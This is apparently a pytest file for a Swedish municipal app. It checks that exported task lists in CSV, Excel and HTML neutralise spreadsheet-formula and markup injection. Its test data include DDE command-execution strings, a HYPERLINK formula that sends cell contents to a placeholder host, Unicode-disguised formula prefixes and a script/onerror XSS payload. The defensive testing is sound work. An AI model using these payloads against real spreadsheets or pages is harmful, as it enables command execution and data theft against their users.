"""The field list: paper, workbook and CSV of the same choice, behind the same wall, and no cell is ever a formula."""

import csv
import io
from typing import Any
from uuid import UUID

import openpyxl
import pytest

from tests.sync.desks import Desk, a_task, coordinator, handler, reviewed, the_task
from tests.web.phones import Evening
from trygghetsvandring.domain.field_lists import COLUMNS, plain
from trygghetsvandring.domain.ids import uuid7

pytest_plugins = ["tests.web.evenings"]

# What spreadsheets have been made to run, and what looks like it.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://ond.example/?"&A1;"Klicka")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff20SUM(A1)",
    "|calc",
    "%0A=1+1",
    '";=1+1;"',
    "Lampa\n=1+1",
    "Lampa\r\n=1+1;2",
)
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"


async def fetched(desk: Desk, kind: str, query: str = "") -> Any:
    answer = await desk.evening.http.get(f"/api/tasks/field-list/{kind}{query}", headers=desk.headers)
    assert answer.status_code == 200, answer.text
    return answer


async def rows_of(desk: Desk, query: str = "") -> list[dict[str, str]]:
    text = (await fetched(desk, "csv", query)).content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


async def named(evening: Evening, triage: Desk, title: str, **changes: Any) -> UUID:
    found, task = await reviewed(await evening.phone(), triage, **changes), uuid7()
    await triage.done("task.create", task, title=title, observations=[found], priority=1)
    await triage.done("task.assign", task, department="gata-park", explanation="De.", due_on="2026-12-04")
    return task


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_begins_as_a_formula_or_breaks_out_of_its_cell(text: str) -> None:
    cell = plain(text)

    assert cell[:1] not in set("=+-@|%\t\r\n\uff1d\uff0b\uff0d\uff20")
    assert not set(cell) & set("\r\n\t\x00\u200b\ufeff")


def test_an_ordinary_text_is_left_as_it_is() -> None:
    assert plain("Byt lampa 3 vid Ösbyskolan – stolpe 1190") == "Byt lampa 3 vid Ösbyskolan – stolpe 1190"


async def test_titles_that_are_formulas_arrive_as_text_in_every_format(evening: Evening) -> None:
    triage, gata = await coordinator(evening), await handler(evening)
    for title in FORMULAS:
        await named(evening, triage, title)

    rows = await rows_of(gata)
    book = openpyxl.load_workbook(io.BytesIO((await fetched(gata, "xlsx")).content))
    cells = [cell for row in book.active.iter_rows() for cell in row]

    assert len(rows) == len(FORMULAS)
    assert {row["Vad"] for row in rows} == {plain(title.strip()) for title in FORMULAS}
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert all(cell.value is None or isinstance(cell.value, str) for cell in cells)
    assert not [cell for cell in cells if cell.hyperlink]


async def test_markup_is_text_on_paper_and_the_page_runs_nothing(evening: Evening) -> None:
    triage, gata = await coordinator(evening), await handler(evening)
    task = await named(evening, triage, MARKUP)
    (finding,) = (await the_task(evening, task)).findings
    await triage.done("observation.moderate", finding, place="Stigen <b>bakom</b> skolan")

    page = await fetched(gata, "html")

    assert "<script>" not in page.text and "<img" not in page.text and "<b>bakom" not in page.text
    assert "&lt;script&gt;" in page.text
    assert page.headers["content-security-policy"].startswith("default-src 'none'")


async def test_the_list_follows_the_desks_choice_and_its_wall(evening: Evening) -> None:
    phone, triage, gata = await evening.phone(), await coordinator(evening), await handler(evening)
    await a_task(phone, triage)
    await a_task(phone, triage, department="ab-bostader")
    await a_task(phone, triage, department=None)

    assert len(await rows_of(triage)) == 3
    (row,) = await rows_of(gata)
    assert (row["Enhet"], row["Status"], row["Senast"]) == ("Gata och park", "Tilldelat", "2026-12-04")
    assert tuple(row) == COLUMNS
    assert await rows_of(gata, "?state=done") == []
    assert len(await rows_of(triage, "?tile=ljus")) == 3
    assert await rows_of(triage, "?tile=skrap") == []
    assert (await gata.get("/api/tasks/field-list/exe", status=404))["code"] == "not_found"
